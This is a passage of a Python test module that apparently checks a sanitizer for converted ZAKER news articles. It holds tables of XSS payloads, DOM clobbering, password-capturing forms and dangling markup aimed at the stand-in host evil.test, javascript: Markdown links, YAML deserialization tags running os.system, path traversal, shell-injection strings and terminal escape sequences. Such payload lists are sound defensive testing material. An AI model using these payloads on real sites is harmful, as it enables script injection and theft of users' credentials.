<iframe src="https:\\evil.test\v.qq.com"></iframe>
<iframe src="https://evil.test%2f@v.qq.com/"></iframe>
<iframe src="https://evil.test%00.v.qq.com/"></iframe>
<iframe src="https://evil.test&#x3002;v.qq.com/x"></iframe>
<iframe src="https://v.qq.com:8443/x"></iframe>
<iframe src="https://v.qq.com:80@evil.test/x"></iframe>
<iframe src="https://evilv.qq.com/x"></iframe>
<iframe src="https://xv.qq.com/x"></iframe>
<iframe src="https://v.qq.com./x"></iframe>
<iframe src="https://v%2eqq.com.evil.test/x"></iframe>
<iframe src="https://ｖ.qq.com.evil.test/x"></iframe>
<iframe src="///evil.test/v.qq.com/"></iframe>
<iframe src="/\evil.test/v.qq.com/"></iframe>
<iframe src="https:evil.test/v.qq.com/"></iframe>
<iframe src="http:/evil.test/v.qq.com/"></iframe>
<iframe src="ht␉tps://evil.␊test/v.qq.com/"></iframe>
<iframe src="https://v.qq.com␉.evil.test/x"></iframe>
<iframe src="https://v.qq.com&#9;@evil.test/x"></iframe>
<iframe src="https://[::1]/v.qq.com"></iframe><iframe src="https://[v.qq.com/x"></iframe>
<iframe src="ftp://v.qq.com/x"></iframe><iframe src="view-source:https://v.qq.com/x"></iframe>
<iframe src="blob:https://v.qq.com/1"></iframe><iframe src="filesystem:https://v.qq.com/x"></iframe>
<iframe src="https://v.qq.com/x" name="<img src=x onerror=alert(1)>" onload=alert(1) allow="camera; autoplay"></iframe>
<iframe src="https://v.qq.com/x"><img src=x onerror=alert(1)></iframe>
<iframe data-src="//evil.test/lazy" data-original=//evil.test/lazy></iframe>
<div class="iframe_video"><iframe src="//v.qq.com/iframe/player.html?vid=a&quot; onload=&quot;alert(1)"></iframe></div>
<iframe src="https://v.qq.com/{{ 'tpl' ~ 'ran' }}"></iframe>
<iframe src="https://v.qq.com/x)[x](javascript:alert(1)"></iframe>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<frame src=//evil.test/frame>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"></object>
<object data=//evil.test/object type=text/html></object>
<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=DataURL value=javascript:alert(1)></object>
<object><param name=src value=javascript:alert(1)><param name=code value=//evil.test/x></object>
<embed src=javascript:alert(1)>
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src=//evil.test/x.swf allowscriptaccess=always type=application/x-shockwave-flash>
<embed code=//evil.test/embed type=text/html>
<applet code=X archive=//evil.test/x.jar codebase=//evil.test/></applet>
<portal src=//evil.test/portal></portal><fencedframe src=//evil.test/fenced></fencedframe>
<webview src=//evil.test/webview></webview><layer src=//evil.test/layer></layer>
""",
    "clobbering": r"""
<img id=document src="http://zkres1.myzaker.com/1.jpg"><a id=location href="https://a.example/">文</a>
<form id=x><input name=attributes><input name=nodeName><input name=parentNode></form><img src=x onerror=alert(1)>
<form id=config><input name=url value=//evil.test></form>
<a id=CONFIG></a><a id=CONFIG name=root href="javascript:alert(1)">文</a>
<a id=defaultAvatar><a id=defaultAvatar name=avatar href='cid:&quot;onerror=alert(1)//'>文</a>
<p id=__proto__>文</p><p id=constructor>文</p><p id=hasOwnProperty>文</p>
<img name=getElementById src=//evil.test/n.png><img name=body src=//evil.test/b.png><img name=cookie src=x>
<iframe name=self src="https://v.qq.com/x"></iframe><iframe name=alert src="https://v.qq.com/x"></iframe>
<form name=document><form name=location></form><output id=x name=innerHTML>文</output></form>
<base id=currentScript href=//evil.test/><embed name=currentScript src=//evil.test/x>
<object id=window name=window data=x></object><svg id=documentElement></svg>
""",
    "form": r"""
<form action=//evil.test/form method=post><input name=password type=password autofocus><button>登录</button></form>
<form><form action=//evil.test/nested><input type=submit></form></form>
<form><button formaction=//evil.test/formaction>点
<table><form action=//evil.test/table><tr><td><input type=submit></td></tr></table>
<form action="//evil.test/textarea"><textarea name=leak><p>后面的都在里面
<input type=text value="<script>alert(1)</script>" onfocus=alert(1) autofocus>
<form action='//evil.test/open?x=
<button form=f formaction=//evil.test/outside>点</button><div><form id=f>
<img src='//evil.test/dangling?x=
<a href='//evil.test/dangling"><p>文</p>
<select name=x><option>文<form action=//evil.test/option><keygen name=k><input type=submit>
<meter onclick=alert(1)></meter><fieldset onclick=alert(2)><legend onclick=alert(3)>文</legend></fieldset>
<search><datalist id=d><option value="<img src=x onerror=alert(1)>"></datalist><input list=d autofocus></search>
""",
    "attribute": r"""
<p title='"><script>alert(1)</script>'>文</p>
<p title="'><img src=x onerror=alert(1)>">文</p>
<p title="` onclick=`alert(1)`">文</p>
<p title=`"onclick=alert(1)`>文</p>
<p title=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;>文</p>
<p title="a&#34; onclick=&#34;alert(1)">文</p>
<p title="a&#10;&#10;<script>alert(1)</script>&#10;&#10;">文</p>
<p class='x" onclick="alert(1)'>文</p>
<p class="x&#10;&#10;[x](javascript:alert(1))">文</p>
<p lang='"onmouseover="alert(1)' dir=`onclick=alert(2)`>文</p>
<p data-x='"><svg onload=alert(1)>' data-y="&lt;img src=x onerror=alert(1)&gt;">文</p>
<p data-x" onclick="alert(1)="1">文</p>
<p data-<img/src=x/onerror=alert(1)>=1>文</p>
<p x<script>alert(1)</script>=1>文</p>
<a href='https://a.example/" onclick="alert(1)'>文</a>
<a href="https://a.example/'onclick='alert(1)">文</a>
<a href="https://a.example/`onclick=alert(1)`">文</a>
<a href="https://a.example/><script>alert(1)</script>">文</a>
<a href="https://a.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">文</a>
<a href="https://a.example/ onclick=alert(1)">文</a>
<a target="_blank" rel=opener href="https://evil.test/" download=x.exe type=text/html>文</a>
<td colspan='1" onclick="alert(1)'>文</td><table><td width='1"onclick="alert(2)'>文</table>
<time datetime='"><script>alert(1)</script>'>文</time><font face='"><script>alert(2)</script>'>文</font>
<video src='https://evil.test/v.mp4" onerror="alert(1)' width='"><script>alert(2)</script>'></video>
<ol start='1"onclick="alert(1)' type='"><img src=x onerror=alert(2)>'><li value='"onclick="alert(3)'>文</ol>
""",
}

# Text, which a page shows as it is, and which Markdown, Nunjucks or YAML would take for more.
TEXT: dict[str, str] = {
    "markdown link": r"""
[x](javascript:alert(1))
[x](<javascript:alert(1)>)
[x](java␊script:alert(1))
[x](JAVASCRIPT:alert(1) "title")
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](\javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](  javascript:alert(1)  )
[x][1]␊␊[1]: javascript:alert(1)
[x]␊␊[x]: <javascript:alert(1)> "title"
[1]: javascript:alert(1)␊[x][1]
[x][]␊␊   [x]:␊javascript:alert(1)
[^1]␊␊[^1]: <script>alert(1)</script>
[x](https://a.example/ "x" onclick="alert(1))
[x](https://a.example/'onclick='alert(1))
[x](https://a.example/ "&quot; onclick=alert(1) &quot;")
[![x](x)](javascript:alert(1))
[a[b](javascript:alert(1))c](javascript:alert(2))
\[x](javascript:alert(1))
\\[x](javascript:alert(1))
[x\](javascript:alert(1))
[x](javascript:alert(1)
**[x](javascript:alert(1))**
> [x](javascript:alert(1))
- [x](javascript:alert(1))␊1. [x](javascript:alert(2))
# [x](javascript:alert(1))
[x](javascript:alert(1))␊===
| a |␊|---|␊| [x](javascript:alert(1)) |
: [x](javascript:alert(1))␊词␊: <img src=x onerror=alert(1)>
""",
    "markdown picture": r"""
![x](x" onerror="alert(1))
![x](x 'onerror=alert(1)')
!["onerror="alert(1)](x)
!['"><script>alert(1)</script>](x)
![x](javascript:alert(1))
![x](https://evil.test/md.png)
![x][1]␊␊[1]: https://evil.test/reference.png "x" onerror=alert(1)
![x](x "x\" onerror=\"alert(1)")
!\[x](https://evil.test/escaped.png)
![<img src=x onerror=alert(1)>](https://evil.test/alt.png)
""",
    "markdown autolink": r"""
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,<script>alert(1)</script>>
<javascript:alert(1)//https://a.example>
<https://a.example/"onclick="alert(1)>
https://a.example/"onclick="alert(1)"
www.a.example/<script>alert(1)</script>
http://a.example/`<img src=x onerror=alert(1)>`
http://a.example/<img src=x onerror=alert(1)>
https://a.example/x<javascript:alert(1)>
http://a.example/[x](javascript:alert(1))
http://a.example/![x](x"onerror="alert(1))
http://a.example/`x`<svg/onload=alert(1)>
http://a.example/\<img src=x onerror=alert(1)>
http://a.example/&lt;img src=x onerror=alert(1)&gt;
www.a.example/<img src=x onerror=alert(1)>
ftp://a.example/<img src=x onerror=alert(1)>
x@a.example<img src=x onerror=alert(1)>
mailto:x@a.example<img src=x onerror=alert(1)>
http://a.example/*<img src=x onerror=alert(1)>*_~~|
x@a.example"onclick="alert(1)
javascript:alert(1)
""",
    "markdown html": r"""
<script>alert(1)</script>
<img src=x onerror=alert(1)>
␊␊<script>alert(1)</script>␊␊
文␊␊<div>␊<script>alert(1)</script>␊</div>
␊␊<div onclick=alert(1)>点</div>
␊␊<!-- x --><script>alert(1)</script>
␊␊<?x?><script>alert(1)</script>
␊␊<![CDATA[x]]><script>alert(1)</script>
\<script>alert(1)</script>
\\<script>alert(1)</script>
\\\<img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
<<script>script>alert(1)</script>
<img␊src=x␊onerror=alert(1)>
<img src=x␊␊onerror=alert(1)>
</div>␊␊<script>alert(1)</script>
</p></div></article><script>alert(1)</script>
<details open ontoggle=alert(1)>
<svg/onload=alert(1)>
<a href=javascript:alert(1)>x</a>
<style>@import '//evil.test/md.css'</style>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<meta http-equiv=refresh content="0;url=//evil.test/md">
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
""",
    "markdown code": r"""
```␊</code></pre><script>alert(1)</script>␊```
```"><script>alert(1)</script>␊x␊```
``` js <script>alert(1)</script> javascript:alert(1) x␊x␊```
``` js " onclick="alert(1)␊x␊```
~~~␊<script>alert(1)</script>␊~~~␊<script>alert(2)</script>
```␊```␊<script>alert(1)</script>␊```␊```
````␊```␊<script>alert(1)</script>␊````
`<script>alert(1)</script>`
``<script>alert(1)</script>`
`␊␊<script>alert(1)</script>`
\`<script>alert(1)</script>\`
`{{ 'tpl' ~ 'ran' }}`
```␊{{ 'tpl' ~ 'ran' }}␊```
`{% raw %}`{% endraw %}{{ 'tpl' ~ 'ran' }}
    <script>alert(1)</script>
␉<script>alert(1)</script>␊␊␉<img src=x onerror=alert(1)>
> ```␊> <script>alert(1)</script>␊```␊<script>alert(2)</script>
- ```␊<script>alert(1)</script>␊  ```
1. ~~~␊   x␊~~~␊<img src=x onerror=alert(1)>
```mermaid␊graph TD; A["<img src=x onerror=alert(1)>"]␊```
$$<script>alert(1)</script>$$ \(\href{javascript:alert(1)}{x}\)
""",
    "front matter": r"""
---
---␊layout: false␊---␊<script>alert(1)</script>
x␊---␊<script>alert(1)</script>
x'␊---␊<script>alert(1)</script>
x␊...␊<script>alert(1)</script>
;;;␊{"title":"x"}␊;;;
'
''
'''
"
\
\'
x\
x'"x
x" # 注
'␊layout: evil
x'␊disableNunjucks: false␊title: 'y
x&#10;---&#10;<script>alert(1)</script>
!!js/function "function(){alert(1)}"
!!js/regexp /x/
!!python/object/apply:os.system ["true"]
!!binary PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
!<tag:yaml.org,2002:js/function> x
&a [*a, *a]
*a
<<: {layout: evil}
{a: [b, 'c']}
[x, y]
? x␊: y
| x␊  y
> x
%YAML 1.1
@x
`x`
# 注
- x
: x
x: y
~
null
true
0x1F
1e999
.nan
2022-04-08
=
x #y
x'-'y
title␉tab
""",
    "title": r"""
</title><script>alert(1)</script>
</h1></a><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
"><svg onload=alert(1)>
javascript:alert(1)
{{ 'tpl' ~ 'ran' }}
{% raw %}
{# 注
../../../../etc/passwd
..\..\..\windows
/etc/cron.d/x
C:\x
CON
x.md.html
-rf *
$(touch x) `touch x` ; touch x | touch x && touch x
%00%0a%0d%2e%2e%2f
x␀y.md
x␛[31m红␛[0m
x␛]0;名字␇
x␛]8;;https://evil.test/␛\链接␛]8;;␛\
x␛[2J␛[1;1H␛c
x␛P+q544e␛\␛_x␛\␛^x␛\
x␍y
x␋y␌z
""",
}

# Characters that do not show: line ends of some readers, marks of byte and writing order, C1 controls, joiners.
_UNSEEN = (
    "\u2028---\u2028layout: evil\u2028",
    "x\u2028<script>alert(1)</script>",
    "x\u2029\u2029[x](javascript:alert(1))",
    "x\x85---\x85<script>alert(1)</script>",
    "x\x85\x85<img src=x onerror=alert(1)>",
    "\ufeff---\ufeff",
    "x\ufeff\ufffe\uffffy",
    "\ufeff<script>alert(1)</script>",
    "\u202e)1(trela:tpircsavaj\u202c gpj.exe",
    "\u2066x\u2069\u200f\u200ey",
    "\x9b31m红\x9b0m\x9d0;x\x9c\x90q\x9c",
    "\x07\x08\x08\x08\x7fx\x1a\x04",
    "<\u200bscript>alert(1)</script>",
    "\u200b\u200c\u200d\u2060\ufeff",
    "java\u00adscript:alert(1) [x](java\u00adscript:alert(1))",
    "\u0000<\u0000s\u0000c\u0000ript>alert(1)</script>",
    "[x](\u3000javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "\U000e0001\U000e0041<script>alert(1)</script>",
    "x\u0301\u0489" + "\u0300" * 90,
    "\ufffc0 <!--swig\ufffc0--> <!--code\ufffc0--> <!--comment\ufffc0-->",
    "<!--swig\ufffc0-->",
    "<!--code\ufffc0-->",
    "<!--comment\ufffc0-->",
    "`<!--swig\ufffc0-->`",
    "{\u200b{ 'tpl' ~ 'ran' }\u200b}",
    "\uff5b\uff5b 'tpl' ~ 'ran' \uff5d\uff5d",
)

# Addresses inside of a redirect of ZAKER's, and of an uploaded video's data.
_HIDDEN = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//://",
    "java\nscript://x\nalert(1)",
    " \x01javascript:alert(1)//https://a.example",
    "javascript://a.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#://",
    "vbscript:msgbox(1)",
    'https://a.example/" onclick="alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "https://a.example/\n\n<script>alert(1)</script>",
    "https://a.example/)[x](javascript:alert(1))",
    "https://a.example/{{ 'tpl' ~ 'ran' }}",
    "https://a.example/<!--swig\ufffc0-->",
)


def _lines(table: str) -> list[str]:
    return [line.translate(_CONTROLS).replace("␇", "\x07") for line in table.split("\n") if line.strip()]


def _shown(text: str) -> str:
    """Return *text* as a page may show it: on one line, on lines of its own, in paragraphs and as code."""
    lines = [escape(line) for line in text.split("\n")]
    paragraphs = "".join(f"<p>{line}</p>" for line in lines)
    code = "\n".join(lines)
    return f"<p>{code}</p><p>{'<br>'.join(lines)}</p>{paragraphs}<pre>{code}</pre><p><code>{code}</code></p>{code}"


def _redirect(target: str) -> str:
    b = quote(b64encode(target.encode()).decode())
    return (
        f'<p><a href="http://iphone.myzaker.com/zaker/link.php?pk=1&amp;b={b}&amp;bcode=0&amp;target=_new">链接</a></p>'
    )


def _video(target: str) -> str:
    info = quote(json.dumps({"videoUrl": target, "imgUrl": target, "title": "<script>alert(1)</script>"}))
    return f'<div class="zaker_div"><div class="zk_upvideo" data-zkinfo="{info}"></div></div>'


def attacks() -> list[Attack]:
    """Return all attacks, in the order of the tables."""
    found = [Attack(kind, line, line, line) for kind, table in MARKUP.items() for line in _lines(table)]
    texts = [(kind, line) for kind, table in TEXT.items() for line in _lines(table)]
    texts += [("unseen character", text) for text in _UNSEEN]
    found += [Attack(kind, text, _shown(text), text) for kind, text in texts]
    found += [Attack("redirect", target, _redirect(target), f"[x]({target})") for target in _HIDDEN]
    found += [Attack("uploaded video", target, _video(target), f"[x]({target})") for target in _HIDDEN]
    return found
